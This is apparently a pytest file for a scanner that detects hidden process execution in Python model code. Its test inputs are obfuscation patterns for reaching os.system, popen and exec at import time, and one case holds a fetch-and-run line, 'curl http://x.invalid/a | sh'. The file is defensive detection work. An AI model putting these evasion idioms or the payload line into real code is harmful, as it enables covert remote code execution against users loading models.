# ruff: noqa: E501  (one source snippet per line reads best)
"""The resolver's value model: module dicts, vars(), container items and loop variables."""

from __future__ import annotations

import ast
import textwrap
import time

import pytest

from mlwarden.behaviour.resolve import Resolver
from mlwarden.report.model import Verdict
from mlwarden.scan.context import Limits, ScanContext
from mlwarden.scan.remote_code import analyze_python


def analyse(src: str) -> ScanContext:
    ctx = ScanContext(display_path="repo/modeling_x.py", limits=Limits())
    analyze_python(textwrap.dedent(src).encode(), ctx)
    return ctx


def bad(src: str) -> set[tuple[str, int]]:
    return {(f.rule, f.location.line) for f in analyse(src).findings
            if f.verdict is not Verdict.CLEAN and f.location and f.location.line}


@pytest.mark.parametrize("src, line", [
    # module namespaces
    ("import os\nos.__dict__['sys' + 'tem']('id')\n", 2),
    ("import os\nvars(os)['system']('id')\n", 2),
    ("import os\nos.__dict__.get('system')('id')\n", 2),
    ("import sys\nsys.modules['os'].__dict__['system']('id')\n", 2),
    ("import os as o\nns = vars(o)\nns['po' + 'pen']('id')\n", 3),
    # getattr with a constant-folded name, also through a variable and += in a function
    ("import os\nname = 'sys' + 'tem'\ngetattr(os, name)('id')\n", 3),
    ("import os\ndef f():\n    n = 'sys'\n    n += 'tem'\n    getattr(os, n)('id')\nf()\n", 5),
    # callables stored in containers
    ("from os import system as s\nHOOKS = {'go': s}\nHOOKS['go']('id')\n", 3),
    ("import os\nHOOKS = {}\nHOOKS['go'] = os.system\nHOOKS['go']('id')\n", 4),
    ("import os\nH = dict(go=os.system)\nH.get('go')('id')\n", 3),
    ("import os\nH = {}\nH.update({'go': os.system})\nH['go']('id')\n", 4),
    ("import os\nL = []\nL.append(os.popen)\nL[0]('id')\n", 4),
    ("import os\nL = [print]\nL[0] = os.system\nL[0]('id')\n", 4),
    ("import os\nCFG = {'hooks': {'go': os.system}}\nCFG['hooks']['go']('id')\n", 3),
    ("import os\nmods = [os]\nmods[0].system('id')\n", 3),
    ("import os\nH = {'a': os.system}\nfor k in H:\n    H[k]('id')\n", 4),
    # loop variables
    ("import os\nfor fn in [os.system]:\n    fn('id')\n", 3),
    ("import os\nfor fn in [print, os.system]:\n    fn('id')\n", 3),
    ("import os\nH = {'a': os.system, 'b': print}\nfor k, fn in H.items():\n    fn('id')\n", 4),
    ("import os\nfor fn in dict(a=os.system).values():\n    fn('id')\n", 3),
    ("import os, subprocess\nfor i, fn in enumerate((os.system, subprocess.call)):\n    fn('id')\n", 3),
    ("import os\nM = [[os.system]]\nfor row in M:\n    for fn in row:\n        fn('id')\n", 5),
    ("import os\nfor m in [os]:\n    m.system('id')\n", 3),
    ("import os\ndef f():\n    for fn in (os.system,):\n        fn('id')\nf()\n", 4),
    # comprehension variables are loop variables
    ("import os\n[fn('id') for fn in [os.system]]\n", 2),
    ("import os\nset(f('id') for f in {'a': os.popen}.values())\n", 2),
    # process callables handed to something that calls them
    ("import os\nlist(map(os.system, ['id']))\n", 2),
    ("import os, atexit\natexit.register(os.system, 'id')\n", 2),
    ("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n", 2),
    # instance and class attributes
    ("import os\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.run = os.system\n        self.run('id')\n", 7),
    ("import os\nfrom torch import nn\nclass M(nn.Module):\n    HOOKS = {'go': os.system}\n    def __init__(self):\n        super().__init__()\n        self.HOOKS['go']('id')\n", 7),
    ("import os\nfrom torch import nn\nclass B(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.cmd = 'id'\n        self.go = os.popen\nclass M(B):\n    def __init__(self):\n        super().__init__()\n        self.go(self.cmd)\n", 11),
    # functools.partial keeps the callable
    ("import os, functools\nfunctools.partial(os.system, 'id')()\n", 2),
    ("import os\nfrom functools import partial\np = partial(os.system, 'id')\np()\n", 4),
])
def test_resolves_to_a_process_at_import(src: str, line: int) -> None:
    assert ("code-import-process", line) in bad(src)


@pytest.mark.parametrize("src, line", [
    # same-file functions reached through containers and loop variables run at import
    ("import os\ndef evil():\n    os.system('id')\nHOOKS = {'go': evil}\nHOOKS['go']()\n", 3),
    ("import os\ndef evil():\n    os.system('id')\nfor f in [evil]:\n    f()\n", 3),
    ("import os\ndef evil():\n    os.system('id')\ng = evil\ng()\n", 3),
    ("import os\nH = {'go': lambda: os.system('id')}\nH['go']()\n", 2),
])
def test_same_file_callees_through_values(src: str, line: int) -> None:
    assert ("code-import-process", line) in bad(src)


def test_payloads_fold_through_loop_variables() -> None:
    got = bad("import os\nfor cmd in ['curl http://x.invalid/a | sh']:\n    os.system(cmd)\n")
    assert ("code-shell-payload", 3) in got
    got = bad("import builtins\nvars(builtins)['ex' + 'ec']('1')\n")
    # exec of any string at import time is malicious for remote code (issue 11)
    assert ("code-builtins-access", 2) in got and ("code-load-exec", 2) in got


@pytest.mark.parametrize("src", [
    "import torch\nfor fn in [torch.relu, torch.tanh]:\n    fn(torch.zeros(1))\n",
    "import torch\nACTS = {'relu': torch.relu, 'gelu': torch.nn.functional.gelu}\nACTS['gelu'](torch.zeros(1))\n",
    "import os\nH = {'a': print, 'b': os.system}\nH['a']('exact key: print only')\n",
    "import os\nL = [print, os.system]\nL[0]('exact index: print only')\n",
    "d = {'system': print}\nd['system']('a key named system is not os.system')\n",
    "import os\nfor fn in [os.path.join, os.path.exists]:\n    fn('a')\n",
    "L = []\nfor i in range(3):\n    L.append(i)\nfor x in L:\n    print(x)\n",
    "class C:\n    def __init__(self):\n        self.__dict__['x'] = 1\n        vars(self)['y'] = 2\n",
    "CFG = {'a': 1, 'b': 2}\nfor k, v in CFG.items():\n    print(k, v)\n",
    "import os\nlist(map(os.path.exists, ['a']))\n[f(1) for f in [abs, round]]\n",
    "from subprocess import run\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, run):\n        super().__init__()\n        self.run = run\n        self.run('a parameter, not subprocess.run')\n",
    "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.proj = nn.Linear(2, 2)\n        self.act = torch.relu\n    def forward(self, x):\n        return self.act(self.proj(x))\n",
])
def test_ordinary_containers_and_loops_are_clean(src: str) -> None:
    ctx = analyse(src)
    assert ctx.verdict is Verdict.CLEAN, ctx.findings


def test_call_through_container_in_a_function_is_suspicious() -> None:
    src = "import os\nHOOKS = {'go': os.system}\ndef run():\n    HOOKS['go']('id')\n"
    assert bad(src) == {("code-process", 4)}


def test_qualify_all_lists_every_candidate() -> None:
    tree = ast.parse("import os, subprocess\nfor fn in [os.system, subprocess.run, os.system]:\n"
                     "    fn('id')\n")
    r = Resolver(tree)
    call = tree.body[1].body[0].value  # type: ignore[attr-defined]
    assert r.qualify(call.func) is None  # not one answer
    assert r.qualify_all(call.func) == ["os.system", "subprocess.run"]
    tree = ast.parse("import os\nfor fn in [os.system, os.system]:\n    fn('id')\n")
    call = tree.body[1].body[0].value  # type: ignore[attr-defined]
    assert Resolver(tree).qualify(call.func) == "os.system"  # every item agrees


@pytest.mark.parametrize("src", [
    "L = [" + ", ".join(["print"] * 20_000) + "]\nfor f in L:\n    f('x')\n",
    "D = {}\n" + "".join(f"D['k{i}'] = D\n" for i in range(3_000)) + "D['k1']['k2']['k3']('x')\n",
    "L = []\nL.append(L)\nfor x in L:\n    for y in x:\n        y()\n",
    "x = x[0]\nx()\nfor a in a:\n    a()\n",
    "a = [b]\nb = [a]\nfor f in a:\n    for g in f:\n        g()\n",
    "import os\n" + "".join(f"f{i} = f{i - 1}\n" for i in range(1, 400)) + "f0 = os.system\nf399('x')\n",
])
def test_value_model_stays_bounded(src: str) -> None:
    started = time.perf_counter()
    ctx = analyse(src)
    assert time.perf_counter() - started < 10
    assert ctx.verdict is not Verdict.UNSCANNABLE or any(
        f.rule == "code-unparseable" for f in ctx.findings)
